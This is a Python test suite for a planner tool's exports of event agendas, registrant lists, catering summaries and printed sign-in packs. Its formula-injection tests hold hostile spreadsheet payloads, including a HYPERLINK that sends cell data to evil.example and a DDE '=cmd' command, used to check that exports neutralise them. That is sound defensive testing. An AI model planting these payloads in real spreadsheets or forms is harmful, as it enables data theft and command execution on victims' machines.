#!/usr/bin/python3
"""End-to-end tests of `planner export`: every file is read back by an
independent reader (openpyxl for xlsx, the csv module, json).

Run with Debian's /usr/bin/python3 (python3-openpyxl); PLANNER_BIN and
PLANNER_SOURCE_DIR come from the environment (CTest sets them).
"""

import csv
import datetime
import io
import json
import os
import random
import re
import resource
import shutil
import signal
import sqlite3
import string
import subprocess
import tempfile
import unittest
import zipfile

import openpyxl

PLANNER = os.environ.get("PLANNER_BIN", "planner")
SOURCE = os.environ.get(
    "PLANNER_SOURCE_DIR",
    os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__)))))
SAMPLE = os.path.join(SOURCE, "sample-events", "atelier-cem-2.json")
SLUG = "atelier-cem-2"

HEADER = ["name", "email", "organization", "origin", "travel", "seats", "meal", "diet",
          "public", "sessions"]

# A small event of our own: capacity 4, so that the waiting list fills.
SMALL_EVENT = {
    "slug": "petit-atelier",
    "title": "Petit atelier",
    "format": "in_person",
    "timezone": "Europe/Paris",
    "start": "2026-12-10T09:00",
    "end": "2026-12-10T12:00",
    "capacity": 4,
    "venue": {"name": "Maison des associations", "address": "Orléans",
              "lat": 47.9029, "lon": 1.9093},
    "speakers": [{"id": "a", "name": "Anne Morvan", "organization": "ADEME"}],
    "sessions": [
        {"id": "intro", "title": "Introduction", "kind": "talk", "start": "09:00",
         "end": "09:30", "room": "Salle 1", "speakers": ["a"]},
        {"id": "atelier", "title": "Atelier", "kind": "workshop", "start": "09:30",
         "end": "11:00", "room": "Salle 2", "capacity": 4},
        {"id": "dejeuner", "title": "Déjeuner", "kind": "meal", "start": "11:00",
         "end": "12:00"},
    ],
    "status": "published",
}


def reg(name, email, org="", origin="", travel="none", seats="", meal="no", diet="",
        public="no", sessions=""):
    return [name, email, org, origin, travel, seats, meal, diet, public, sessions]


class ExportTest(unittest.TestCase):
    def setUp(self):
        self.tmp = tempfile.TemporaryDirectory(prefix="planner-exports-")
        self.dir = self.tmp.name
        self.db = os.path.join(self.dir, "planner.db")
        self.run_ok("init")

    def tearDown(self):
        self.tmp.cleanup()

    def path(self, name):
        return os.path.join(self.dir, name)

    def run_planner(self, *args, preexec=None):
        # registrations are stamped with this UTC time (11:30 in Paris, summer time)
        env = dict(os.environ, PLANNER_NOW="2026-07-01T09:30:00Z")
        return subprocess.run([PLANNER, "--db", self.db, *args], capture_output=True,
                              text=True, cwd=self.dir, preexec_fn=preexec, env=env)

    def run_ok(self, *args):
        p = self.run_planner(*args)
        self.assertEqual(p.returncode, 0, f"planner {' '.join(args)}: {p.stderr}")
        return p

    def import_event(self, event):
        path = self.path(event["slug"] + ".json")
        with open(path, "w", encoding="utf-8") as f:
            json.dump(event, f, ensure_ascii=False)
        self.run_ok("event", "import", path)

    def import_registrations(self, slug, rows):
        path = self.path("regs.csv")
        with open(path, "w", encoding="utf-8", newline="") as f:
            csv.writer(f).writerows([HEADER] + rows)
        self.run_ok("registrations", "import", slug, path)

    def export(self, kind, slug, name, *options):
        out = self.path(name)
        self.run_ok("export", kind, slug, "-o", out, *options)
        return out

    def secrets(self):
        """Every (email, token, uid) in the database, read independently."""
        con = sqlite3.connect(self.db)
        try:
            return con.execute("SELECT email, token, uid FROM registrations").fetchall()
        finally:
            con.close()


def sheet_rows(ws):
    return [list(r) for r in ws.iter_rows(values_only=True)]


def read_bytes(path):
    with open(path, "rb") as f:
        return f.read()


def xlsx_text(path):
    """All the XML of an xlsx, as one string."""
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".xml"))


class AgendaExportTest(ExportTest):
    def setUp(self):
        super().setUp()
        self.import_event(SMALL_EVENT)
        self.import_registrations("petit-atelier", [
            reg("Anne Dupont", "anne@example.org", sessions="atelier"),
            reg("Bruno Martin", "bruno@example.org", sessions="atelier|intro"),
        ])
        # the second version drops the lunch: it stays, cancelled
        changed = dict(SMALL_EVENT, sessions=SMALL_EVENT["sessions"][:2])
        self.import_event(changed)

    def test_xlsx(self):
        wb = openpyxl.load_workbook(self.export("agenda", "petit-atelier", "agenda.xlsx"))
        # the event is in Europe/Paris: French by default
        self.assertEqual(wb.sheetnames, ["Programme"])
        ws = wb["Programme"]
        rows = sheet_rows(ws)
        self.assertEqual(rows[0], ["Date", "Début", "Fin", "Durée (min)", "Salle", "Type",
                                   "Titre", "Intervenants", "Capacité", "Inscrits", "Statut",
                                   "Session"])
        self.assertEqual(len(rows), 4)
        self.assertEqual(ws.freeze_panes, "A2")
        self.assertEqual(ws.auto_filter.ref, "A1:L4")
        for cell in ws[1]:
            self.assertTrue(cell.font.b, "header is bold")
        by_id = {r[11]: r for r in rows[1:]}
        intro = by_id["intro"]
        # real dates and times, numbers as numbers
        self.assertEqual(intro[0], datetime.datetime(2026, 12, 10))
        self.assertEqual(intro[1], datetime.time(9, 0))
        self.assertEqual(intro[2], datetime.time(9, 30))
        self.assertIsInstance(intro[3], int)
        self.assertEqual(intro[3], 30)
        self.assertEqual(intro[7], "Anne Morvan (ADEME)")
        self.assertEqual(intro[9], 1)
        self.assertEqual(by_id["atelier"][8], 4)
        self.assertEqual(by_id["atelier"][9], 2)
        self.assertEqual(by_id["dejeuner"][10], "annulée")
        self.assertEqual(intro[10], "prévue")
        self.assertEqual(intro[5], "intervention")
        self.assertTrue(ws["A2"].is_date)
        self.assertEqual(ws["A2"].number_format, "dd/mm/yyyy")
        self.assertEqual(wb.properties.title, "Programme — Petit atelier")
        self.assertTrue(wb.properties.creator)
        # column widths fit the content
        self.assertGreaterEqual(ws.column_dimensions["G"].width, len("Introduction"))

    def test_csv_and_json(self):
        with open(self.export("agenda", "petit-atelier", "agenda.csv"), encoding="utf-8",
                  newline="") as f:
            rows = list(csv.reader(f))
        self.assertEqual(rows[1][:4], ["2026-12-10", "09:00", "09:30", "30"])
        self.assertEqual(len(rows), 4)
        with open(self.export("agenda", "petit-atelier", "agenda.json"), encoding="utf-8") as f:
            doc = json.load(f)
        self.assertEqual(doc["kind"], "agenda")
        self.assertEqual(doc["event"]["slug"], "petit-atelier")
        s = {x["id"]: x for x in doc["sessions"]}
        self.assertEqual(s["intro"]["date"], "2026-12-10")
        self.assertEqual(s["intro"]["start"], "09:00")
        self.assertEqual(s["intro"]["duration_minutes"], 30)
        self.assertEqual(s["atelier"]["registered"], 2)
        self.assertIsNone(s["intro"]["capacity"])
        # JSON values stay identifiers
        self.assertEqual(s["dejeuner"]["status"], "cancelled")
        self.assertEqual(s["intro"]["kind"], "talk")

    def test_format_option_and_bad_usage(self):
        out = self.path("agenda.data")
        self.run_ok("export", "agenda", "petit-atelier", "-o", out, "--format", "json")
        with open(out, encoding="utf-8") as f:
            self.assertEqual(len(json.load(f)["sessions"]), 3)
        p = self.run_planner("export", "agenda", "petit-atelier", "-o", self.path("x.txt"))
        self.assertEqual(p.returncode, 2)
        self.assertIn("planner:", p.stderr)
        p = self.run_planner("export", "agenda", "nope", "-o", self.path("x.csv"))
        self.assertEqual(p.returncode, 1)
        self.assertFalse(os.path.exists(self.path("x.csv")))
        p = self.run_planner("export", "pack", "petit-atelier", "-o", self.path("x.csv"))
        self.assertEqual(p.returncode, 2)


class RegistrantsExportTest(ExportTest):
    NAMES = ["Zoé Martin", "Ödön Horváth", "Élodie Blanc", "Emma Petit", "Jean de la Tour",
             "Marie DUPONT", "Olivier Roux", "Paul Delacroix", "Éric Moreau", "eric Bernard",
             "Yann Le Goff", "Inès D'Almeida", "Anne de La Tour", "de Gaulle Charles"]
    # By last name in French order: accents and case folded, spaces and
    # apostrophes ignored, a lower-case "de" left out ("de La Tour" files
    # under L), articles kept ("Le Goff" under L), then by first name.
    PUBLIC_ORDER = [("Bernard", "eric"), ("Blanc", "Élodie"), ("D'Almeida", "Inès"),
                    ("Delacroix", "Paul"), ("DUPONT", "Marie"), ("de Gaulle", "Charles"),
                    ("Horváth", "Ödön"), ("de La Tour", "Anne"), ("de la Tour", "Jean"),
                    ("Le Goff", "Yann"), ("Martin", "Zoé"), ("Moreau", "Éric"),
                    ("Petit", "Emma"), ("Roux", "Olivier")]

    def setUp(self):
        super().setUp()
        self.import_event(SMALL_EVENT)
        rows = [reg("Anne Dupont", "anne@example.org", "ADEME", "45000 Orléans", "drive", "3",
                    "yes", "végétarien", "yes", "atelier"),
                reg("Bruno Martin", "bruno@example.org", "CCI", "Chartres", "ride", "", "yes",
                    "", "no", "intro"),
                reg("Chloé Roy", "chloe@example.org", "Ville", "", "none", "", "no", "", "yes"),
                reg("Denis Lévy", "denis@example.org", "Région", "Tours", "flexible", "2", "yes",
                    "Végétarien", "yes"),
                # beyond the capacity of 4: waiting list
                reg("Émile Zola", "emile@example.org", "Presse", "", "none", "", "yes", "",
                    "yes"),
                reg("Fanny Ardant", "fanny@example.org", "Cinéma", "", "none", "", "yes", "",
                    "yes")]
        self.import_registrations("petit-atelier", rows)

    def test_organiser_xlsx(self):
        wb = openpyxl.load_workbook(self.export("registrants", "petit-atelier", "r.xlsx"))
        self.assertEqual(wb.sheetnames, ["Inscrits"])
        ws = wb.active
        rows = sheet_rows(ws)
        head = rows[0]
        # the words French organisers use
        self.assertEqual(head[:5], ["Nom", "Prénom", "Courriel", "Structure",
                                    "Commune de départ"])
        for h in ("Trajet", "Places offertes", "Repas", "Régime alimentaire", "Ateliers",
                  "Statut", "Liste d'attente", "Inscrit le"):
            self.assertIn(h, head)
        self.assertEqual(len(rows), 7)
        self.assertEqual(ws.freeze_panes, "A2")
        self.assertEqual(ws.auto_filter.ref, "A1:R7")
        # printed landscape, one page wide, the header on every page
        self.assertEqual(ws.page_setup.orientation, "landscape")
        self.assertTrue(ws.sheet_properties.pageSetUpPr.fitToPage)
        self.assertIn(ws.page_setup.fitToWidth, (None, 1))
        self.assertEqual(ws.page_setup.fitToHeight, 0)
        self.assertEqual(ws.print_title_rows, "$1:$1")
        self.assertEqual(ws.oddFooter.center.text, "Page &P / &N")
        # printed: what an organiser reads on paper; after it, on screen only,
        # the matched commune, the consent, the timestamps and the id
        self.assertEqual(ws.print_area, ["$A:$M"])
        self.assertEqual(head[12], "Liste d'attente")
        self.assertEqual(head[13:], ["Commune reconnue", "Liste publique", "Inscrit le",
                                     "Modifié le", "Identifiant"])
        # long text wraps in a narrower column, its row as tall as it needs
        col = {h: i for i, h in enumerate(head)}
        widths = {h: ws.column_dimensions[openpyxl.utils.get_column_letter(i + 1)].width
                  for h, i in col.items()}
        self.assertLessEqual(widths["Structure"], 21)
        self.assertTrue(ws.cell(row=1, column=col["Places offertes"] + 1).alignment.wrap_text)
        self.assertEqual(ws.row_dimensions[1].height, 30)
        tall = [r for r in range(2, ws.max_row + 1) if ws.row_dimensions[r].height]
        self.assertTrue(tall, "some rows wrap")
        for r in tall:
            self.assertGreaterEqual(ws.row_dimensions[r].height, 30)
            self.assertEqual(ws.cell(row=r, column=1).alignment.vertical, "top")
        by_name = {(r[0], r[1]): r for r in rows[1:]}
        anne = by_name[("Dupont", "Anne")]
        self.assertEqual(anne[col["Courriel"]], "anne@example.org")
        self.assertEqual(anne[col["Commune reconnue"]], "Orléans")
        self.assertEqual(anne[col["Trajet"]], "conducteur")
        self.assertEqual(by_name[("Martin", "Bruno")][col["Trajet"]], "passager")
        self.assertEqual(anne[col["Places offertes"]], 3)
        self.assertIsInstance(anne[col["Places offertes"]], int)
        self.assertEqual(anne[col["Repas"]], "oui")
        self.assertEqual(anne[col["Régime alimentaire"]], "végétarien")
        # sessions by their titles
        self.assertEqual(anne[col["Ateliers"]], "Atelier")
        # the registration time in the event's zone: PLANNER_NOW is UTC
        self.assertEqual(anne[col["Inscrit le"]], datetime.datetime(2026, 7, 1, 11, 30))
        self.assertEqual(ws.cell(row=2, column=col["Inscrit le"] + 1).number_format,
                         "dd/mm/yyyy hh:mm")
        self.assertIsNone(by_name[("Martin", "Bruno")][col["Places offertes"]])
        # the waiting list is marked, in order, after the confirmed people
        statuses = [r[col["Statut"]] for r in rows[1:]]
        self.assertEqual(statuses, ["confirmé"] * 4 + ["en liste d'attente"] * 2)
        self.assertEqual([r[col["Liste d'attente"]] for r in rows[5:]], [1, 2])
        self.assertEqual([r[0] for r in rows[5:]], ["Zola", "Ardant"])
        # never the secret token
        for _, token, _ in self.secrets():
            self.assertNotIn(token, xlsx_text(self.path("r.xlsx")))

    def test_organiser_csv_excel_and_json(self):
        raw = read_bytes(self.export("registrants", "petit-atelier", "r.csv", "--excel"))
        self.assertTrue(raw.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM")
        rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
        self.assertEqual(rows[0][:3], ["Nom", "Prénom", "Courriel"])
        self.assertEqual(len(rows), 7)
        self.assertTrue(all(len(r) == len(rows[0]) for r in rows))
        self.assertIn(b"\r\n", raw)
        plain = read_bytes(self.export("registrants", "petit-atelier", "r2.csv"))
        self.assertFalse(plain.startswith(b"\xef\xbb\xbf"))
        self.assertTrue(plain.startswith("Nom,Prénom,Courriel,".encode()))
        # times in the event's zone, written plainly
        text = plain.decode("utf-8")
        self.assertIn(",2026-07-01 11:30,", text)
        self.assertNotIn("2026-07-01T09:30", text)
        with open(self.export("registrants", "petit-atelier", "r.json"), encoding="utf-8") as f:
            doc = json.load(f)
        self.assertEqual(doc["kind"], "registrants")
        people = {p["email"]: p for p in doc["registrants"]}
        self.assertEqual(len(people), 6)
        anne = people["anne@example.org"]
        self.assertEqual(anne["seats"], 3)
        self.assertIs(anne["meal"], True)
        self.assertIs(anne["public_list"], True)
        self.assertEqual(anne["sessions"], ["atelier"])
        self.assertEqual(anne["commune"], "Orléans")
        self.assertEqual(anne["name"], "Anne Dupont")
        self.assertEqual((anne["last_name"], anne["first_name"]), ("Dupont", "Anne"))
        # machine values: English identifiers and UTC
        self.assertEqual(anne["travel"], "drive")
        self.assertEqual(anne["status"], "confirmed")
        self.assertEqual(anne["registered"], "2026-07-01T09:30:00Z")
        self.assertNotIn("session_titles", anne)
        self.assertEqual(people["emile@example.org"]["status"], "waitlisted")
        self.assertEqual(people["emile@example.org"]["waitlist_position"], 1)
        self.assertNotIn("token", anne)

    def test_public_list_content_and_order(self):
        self.import_event(dict(SMALL_EVENT, slug="grand-atelier", capacity=100))
        rows = [reg(n, f"p{i}@example.org", f"Org {i}", "Paris", public="yes")
                for i, n in enumerate(self.NAMES)]
        rows.append(reg("Secret Person", "secret@example.org", "Hidden", public="no"))
        self.import_registrations("grand-atelier", rows)
        wb = openpyxl.load_workbook(
            self.export("registrants", "grand-atelier", "p.xlsx", "--public"))
        got = sheet_rows(wb.active)
        self.assertEqual(got[0], ["Nom", "Prénom", "Structure"])
        self.assertEqual([(r[0], r[1]) for r in got[1:]], self.PUBLIC_ORDER)
        with open(self.export("registrants", "grand-atelier", "p.json", "--public"),
                  encoding="utf-8") as f:
            doc = json.load(f)
        self.assertEqual(doc["kind"], "public-list")
        self.assertEqual([(p["last_name"], p["first_name"]) for p in doc["registrants"]],
                         self.PUBLIC_ORDER)
        self.assertEqual(set(doc["registrants"][0]),
                         {"last_name", "first_name", "name", "organization"})
        with open(self.export("registrants", "grand-atelier", "p.csv", "--public"),
                  encoding="utf-8", newline="") as f:
            self.assertEqual([(r[0], r[1]) for r in list(csv.reader(f))[1:]],
                             self.PUBLIC_ORDER)

    def test_public_list_leaves_out_waiting_and_unconsenting(self):
        out = self.export("registrants", "petit-atelier", "p.csv", "--public")
        with open(out, encoding="utf-8", newline="") as f:
            rows = list(csv.reader(f))
        # Bruno did not consent; Émile and Fanny are on the waiting list
        self.assertEqual(rows, [["Nom", "Prénom", "Structure"], ["Dupont", "Anne", "ADEME"],
                                ["Lévy", "Denis", "Région"], ["Roy", "Chloé", "Ville"]])


class FormulaInjectionTest(ExportTest):
    EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1)", "+1", "-1",
            "=1+1", "=cmd|' /C calc'!A0"]

    def setUp(self):
        super().setUp()
        self.import_event(dict(SMALL_EVENT, capacity=100))
        self.import_registrations("petit-atelier", [
            reg(name, f"e{i}@example.org", name, public="yes")
            for i, name in enumerate(self.EVIL)])

    def test_xlsx_writes_strings_never_formulas(self):
        for opt in ([], ["--public"]):
            path = self.export("registrants", "petit-atelier", "f.xlsx", *opt)
            wb = openpyxl.load_workbook(path)
            ws = wb.active
            names = []
            for row in ws.iter_rows(min_row=2):
                self.assertEqual(row[0].data_type, "s")
                if row[1].value is not None:
                    self.assertEqual(row[1].data_type, "s")
                names.append(" ".join(c.value for c in (row[1], row[0]) if c.value))
            self.assertEqual(sorted(names), sorted(self.EVIL))
            self.assertNotIn("<f>", xlsx_text(path))
        pack = self.export("pack", "petit-atelier", "pack.xlsx")
        self.assertNotIn("<f>", xlsx_text(pack))

    def test_csv_neutralises(self):
        for opt in ([], ["--excel"]):
            raw = read_bytes(self.export("registrants", "petit-atelier", "f.csv", *opt))
            text = raw.decode("utf-8-sig")
            rows = list(csv.reader(io.StringIO(text, newline=""),
                                   delimiter=";" if opt else ","))
            # Nom and Prénom, each neutralised on its own
            names = [(r[1] + " " + r[0]) if r[1] else r[0] for r in rows[1:]]
            self.assertIn("'=cmd|' /C calc'!A0", names)
            self.assertEqual(sorted(n.replace("'", "") for n in names),
                             sorted(n.replace("'", "") for n in self.EVIL))
            for r in rows[1:]:
                for cell in r:
                    self.assertFalse(cell[:1] in ("=", "+", "-", "@", "\t", "\r"), cell)


# The sample's people for the pack: particles and compound names, diets
# written in several ways, workshops chosen or not.
PACK_PEOPLE = [
    # name, organization, meal, diet, sessions
    ("Anne de La Tour", "ADEME", "yes", "végétarien", "atelier-pdie"),
    ("Yann Le Goff", "CCI", "yes", "Végétarienne", "atelier-pdie"),
    ("Inès D'Almeida", "Ville", "yes", "vegetariens", ""),
    ("Denis Lévy", "Région", "yes", "halal", "atelier-flottes"),
    ("Émile Zola", "Presse", "no", "", "atelier-covoiturage"),
    ("Jean-Marc Dupont", "Agglo", "yes", "Allergie aux arachides", ""),
    ("Marie DUBOIS", "Département", "yes", "Halal", ""),
] + [(f"{n} Vidal", "Collectif", "yes", "", "atelier-covoiturage" if i % 3 == 0 else "")
     for i, n in enumerate(("Alpha", "Bravo", "Charlie", "Delta", "Echo", "Foxtrot", "Golf", "Hotel",
               "India", "Juliett", "Kilo", "Lima", "Mike", "November", "Oscar", "Papa",
               "Quebec", "Romeo"))]
PACK_TITLE = "Atelier 2 — Conseillers en mobilité"
PACK_DATE = "jeudi 10 décembre 2026"


class PackTest(ExportTest):
    """The sample event with PACK_PEOPLE registered."""

    def setUp(self):
        super().setUp()
        self.run_ok("event", "import", SAMPLE)
        self.import_registrations(SLUG, [
            reg(name, f"p{i}@example.org", org, meal=meal, diet=diet, sessions=sessions)
            for i, (name, org, meal, diet, sessions) in enumerate(PACK_PEOPLE)])


class PackExportTest(PackTest):

    def test_pack(self):
        path = self.export("pack", SLUG, "pack.xlsx")
        wb = openpyxl.load_workbook(path)
        self.assertEqual(wb.sheetnames[:4], ["Inscrits", "Programme", "Restauration",
                                             "Émargement"])
        # then one sign-in sheet per workshop, named after it
        self.assertEqual(len(wb.sheetnames), 7)
        self.assertTrue(wb.properties.title.startswith("Dossier de l'atelier"))
        for ws in wb:
            self.assertIsNotNone(ws.auto_filter.ref, ws.title)
            self.assertEqual(ws.oddFooter.center.text, "Page &P / &N", ws.title)
        self.assertEqual(len(sheet_rows(wb["Inscrits"])), len(PACK_PEOPLE) + 1)
        self.assertEqual(len(sheet_rows(wb["Programme"])), 15)
        self.assertEqual(wb["Programme"].page_setup.orientation, "landscape")

    def test_catering_folds_diets(self):
        wb = openpyxl.load_workbook(self.export("pack", SLUG, "pack.xlsx"))
        ws = wb["Restauration"]
        catering = sheet_rows(ws)
        self.assertEqual(catering[0], ["Repas", "Régime alimentaire", "Repas servis",
                                       "Libellés saisis"])
        meal = "Déjeuner en commun (10/12/2026 13:00)"
        self.assertTrue(all(r[0] == meal for r in catering[1:-1]), catering)
        by_diet = {r[1]: (r[2], r[3]) for r in catering[1:-1]}
        # case, accents, gender and plural folded, the wordings listed
        vege = [d for d in by_diet if d.lower().startswith(("vég", "veg"))]
        self.assertEqual(len(vege), 1, by_diet)
        count, wordings = by_diet[vege[0]]
        self.assertEqual(count, 3)
        self.assertEqual(sorted(wordings.split(", ")),
                         sorted(["végétarien", "Végétarienne", "vegetariens"]))
        self.assertEqual(by_diet["halal"][0] if "halal" in by_diet else by_diet["Halal"][0], 2)
        # an allergy is kept as written
        self.assertEqual(by_diet["Allergie aux arachides"], (1, "Allergie aux arachides"))
        self.assertEqual(by_diet["Sans régime particulier"][0], 18)
        self.assertEqual(catering[-1][0], "Total")
        self.assertEqual(catering[-1][2], 24)

    def test_signin_sheets(self):
        wb = openpyxl.load_workbook(self.export("pack", SLUG, "pack.xlsx"))
        day = wb["Émargement"]
        rows = sheet_rows(day)
        # the heading: title, date, place, the organiser's line
        self.assertIn(PACK_TITLE, rows[0][0])
        self.assertTrue(rows[0][0].startswith("Feuille d'émargement"))
        self.assertEqual(rows[1][0], "Date : " + PACK_DATE)
        self.assertEqual(rows[2][0], "Lieu : Maison des Canaux, 6 quai de la Seine, 75019 Paris")
        self.assertIn("Nom de l'organisateur", rows[3][0])
        head = rows.index(["Nom", "Prénom", "Structure", "Signature matin",
                           "Signature après-midi"])
        people = rows[head + 1:]
        confirmed = len(PACK_PEOPLE)
        self.assertEqual(len(people), confirmed)
        names = [(r[0], r[1]) for r in people]
        # by last name: "de La Tour" under L, "Le Goff" under L, "D'Almeida" under D
        self.assertEqual(names[:4], [("D'Almeida", "Inès"), ("DUBOIS", "Marie"),
                                     ("Dupont", "Jean-Marc"), ("de La Tour", "Anne")])
        self.assertEqual(names[4:6], [("Le Goff", "Yann"), ("Lévy", "Denis")])
        self.assertTrue(all(r[3] is None and r[4] is None for r in people))
        # A4 portrait, one page wide, heading and header on every page, 20 a page
        self.assertEqual(day.page_setup.orientation, "portrait")
        self.assertEqual(day.page_setup.paperSize, 9)
        self.assertTrue(day.sheet_properties.pageSetUpPr.fitToPage)
        self.assertEqual(day.page_setup.fitToHeight, 0)
        self.assertEqual(day.print_title_rows, f"$1:${head + 1}")
        self.assertEqual([b.id for b in day.row_breaks.brk], [head + 1 + 20])
        # one sheet per workshop: its room, its people only, one signature
        workshops = wb.sheetnames[4:]
        covoit = next(wb[n] for n in workshops if "covoit" in n)
        rows = sheet_rows(covoit)
        self.assertIn("12:00 à 13:00", rows[1][0])
        self.assertEqual(rows[3][0], "Salle : Salle Ourcq")
        head = rows.index(["Nom", "Prénom", "Structure", "Signature"])
        self.assertEqual({r[0] for r in rows[head + 1:]}, {"Vidal", "Zola"})
        self.assertEqual(len(rows) - head - 1,
                         sum(1 for p in PACK_PEOPLE if p[4] == "atelier-covoiturage"))

    def test_english_event(self):
        self.import_event(dict(SMALL_EVENT, language="en"))
        self.import_registrations("petit-atelier", [
            reg("Anne Dupont", "anne@example.org", "ADEME", "Orléans", "ride", meal="yes",
                sessions="atelier")])
        wb = openpyxl.load_workbook(self.export("pack", "petit-atelier", "en.xlsx"))
        self.assertEqual(wb.sheetnames[:4], ["Registrants", "Agenda", "Catering", "Sign-in"])
        rows = sheet_rows(wb["Registrants"])
        self.assertEqual(rows[0][:3], ["Last name", "First name", "E-mail"])
        self.assertIn("passenger", rows[1])
        self.assertIn("confirmed", rows[1])
        signin = sheet_rows(wb["Sign-in"])
        self.assertEqual(signin[1][0], "Date: Thursday, 10 December 2026")

    def test_demo_writes_the_pack(self):
        out = self.path("demo")
        p = subprocess.run([PLANNER, "demo", "--out", out], capture_output=True, text=True)
        self.assertEqual(p.returncode, 0, p.stderr)
        wb = openpyxl.load_workbook(os.path.join(out, SLUG + ".pack.xlsx"))
        self.assertIn("Émargement", wb.sheetnames)
        # issue 10: nobody shows another person's sessions
        rows = sheet_rows(wb["Inscrits"])
        col = rows[0].index("Ateliers")
        con = sqlite3.connect(os.path.join(out, "planner.db"))
        try:
            chose = {}
            for email, title in con.execute(
                    "SELECT r.email, s.title FROM registrations r "
                    "LEFT JOIN registration_sessions rs ON rs.registration_id = r.id "
                    "LEFT JOIN sessions s ON s.id = rs.session_id "
                    "ORDER BY r.id, rs.position"):
                chose.setdefault(email, [])
                if title:
                    chose[email].append(title)
        finally:
            con.close()
        mail = rows[0].index("Courriel")
        self.assertTrue(any(not r[col] for r in rows[1:]), "some chose no workshop")
        for r in rows[1:]:
            self.assertEqual(r[col] or "", ", ".join(chose[r[mail]]), r)


def pdf_pages(path):
    """The text of each page of a PDF (poppler's pdftotext)."""
    n = int(re.search(r"^Pages:\s+(\d+)", subprocess.run(
        ["pdfinfo", path], capture_output=True, text=True, check=True).stdout, re.M).group(1))
    return [subprocess.run(["pdftotext", "-f", str(i), "-l", str(i), "-layout", path, "-"],
                           capture_output=True, text=True, check=True).stdout
            for i in range(1, n + 1)]


def pdf_text_size(path, page):
    """The usual height in points of the words on one page of a PDF: the
    median of poppler's word boxes (pdftotext -bbox), about the font size."""
    out = subprocess.run(["pdftotext", "-f", str(page), "-l", str(page), "-bbox", path, "-"],
                         capture_output=True, text=True, check=True).stdout
    heights = sorted(float(y1) - float(y0) for y0, y1 in
                     re.findall(r'<word xMin="[\d.]+" yMin="([\d.]+)" xMax="[\d.]+" '
                                r'yMax="([\d.]+)"', out))
    return heights[len(heights) // 2] if heights else 0.0


def pdf_page_sizes(path):
    out = subprocess.run(["pdfinfo", "-f", "1", "-l", "999", path], capture_output=True,
                         text=True, check=True).stdout
    return [(float(w), float(h)) for w, h in
            re.findall(r"^Page\s+\d+ size:\s+([\d.]+) x ([\d.]+)", out, re.M)]


class PrintedPackTest(PackTest):
    """The pack as a spreadsheet application prints it (LibreOffice headless),
    and the sign-in sheets as `export signin` draws them."""

    def signin_pages_ok(self, pages):
        signin = [p for p in pages if "Feuille d'émargement" in p]
        for p in signin:
            self.assertIn(PACK_TITLE, p)
            self.assertIn(PACK_DATE, p)
            self.assertIn("Nom de l'organisateur", p)
        return signin

    def print_pack(self):
        """The pack as LibreOffice prints it: the PDF's path (skips the test
        without LibreOffice)."""
        soffice = shutil.which("soffice") or shutil.which("libreoffice")
        if not soffice:
            self.skipTest("LibreOffice (soffice) is not installed: "
                          "'scripts/setup.sh test' installs libreoffice-calc-nogui")
        pack = self.export("pack", SLUG, "pack.xlsx")
        profile = "file://" + os.path.join(self.dir, "lo-profile")
        p = subprocess.run([soffice, "-env:UserInstallation=" + profile, "--headless",
                            "--convert-to", "pdf", "--outdir", self.dir, pack],
                           capture_output=True, text=True, timeout=120)
        pdf = self.path("pack.pdf")
        self.assertTrue(os.path.exists(pdf), p.stdout + p.stderr)
        return pdf

    def test_libreoffice_prints_the_pack(self):
        pdf = self.print_pack()
        pages = pdf_pages(pdf)
        sizes = pdf_page_sizes(pdf)
        # readable: the registrant list's text at 7 pt or more (fitting all 18
        # columns to the page's width printed it at 3.4 pt)
        self.assertGreaterEqual(pdf_text_size(pdf, 1), 7.0)
        # Registrants 2 pages (landscape, one page wide, 25 people in print
        # large enough to read), Agenda 1, Catering 1, the day's sign-in
        # sheet 2 (25 people, 20 a page), one per workshop 3
        self.assertEqual(len(pages), 9, [p[:80] for p in pages])
        for i in (0, 1):
            self.assertGreater(sizes[i][0], sizes[i][1], "the registrant list is landscape")
            # one page wide: its first and last printed columns on each
            # page (the header repeated), and no page continues it
            self.assertRegex(pages[i], r"^Nom +Prénom +Courriel")
            self.assertIn("attente", pages[i].split("\n")[1])  # "Liste d'attente"
        self.assertIn("D'Almeida", pages[0])
        self.assertIn("Zola", pages[1])
        # the columns for programs and records are on screen, not on paper
        for p in pages:
            for machine in ("Identifiant", "Modifié le", "Inscrit le", "Commune reconnue"):
                self.assertNotIn(machine, p)
        self.assertGreaterEqual(pdf_text_size(pdf, 2), 7.0)
        # the agenda: one landscape page, readable (all 12 columns side by
        # side printed it at 5.8 pt), long titles wrapped, the session ids
        # (for programs) not printed
        self.assertRegex(pages[2], r"^Date +Début +Fin")
        self.assertGreaterEqual(pdf_text_size(pdf, 3), 7.0)
        self.assertGreater(sizes[2][0], sizes[2][1], "the agenda is landscape")
        self.assertIn("Restitution du forum", pages[2])
        self.assertNotIn("temoignage-pdie", pages[2])
        self.assertNotIn("pause-apres-midi", pages[2])
        signin = self.signin_pages_ok(pages)
        self.assertEqual(len(signin), 5)
        self.assertEqual(sum("Signature matin" in p for p in signin), 2)
        for i, p in enumerate(pages):
            if "Feuille d'émargement" in p:
                self.assertLess(sizes[i][0], sizes[i][1], "sign-in sheets are portrait")
        self.assertIn("Page 1 / ", pages[0])

    def test_libreoffice_prints_the_carpools(self):
        # the sample's people and their carpool plan: the pack's last sheet
        self.run_ok("registrations", "import", SLUG,
                    os.path.join(SOURCE, "sample-events", f"{SLUG}.registrations.csv"))
        self.run_ok("carpool", "plan", SLUG)
        pdf = self.print_pack()
        pages = pdf_pages(pdf)
        sizes = pdf_page_sizes(pdf)
        carpool = [i for i, p in enumerate(pages) if re.match(r"Voiture +Rôle", p)]
        self.assertTrue(carpool, [p[:80] for p in pages])
        self.assertEqual(carpool, list(range(carpool[0], len(pages))), "the last sheet")
        for i in carpool:
            # readable: all 16 columns side by side printed it at 4.3 pt;
            # landscape, one page wide (the header repeated, up to its last
            # printed column)
            self.assertGreaterEqual(pdf_text_size(pdf, i + 1), 7.0)
            self.assertGreater(sizes[i][0], sizes[i][1], "the carpools are landscape")
            self.assertIn("Trajet", pages[i].split("\n")[0])
            self.assertNotIn("Commune reconnue", pages[i])
        self.assertGreaterEqual(len(carpool), 2, "the header repeated on a second page")

    def test_export_signin_pdf(self):
        if not shutil.which("pdftotext"):
            self.skipTest("poppler-utils (pdftotext, pdfinfo) is not installed")
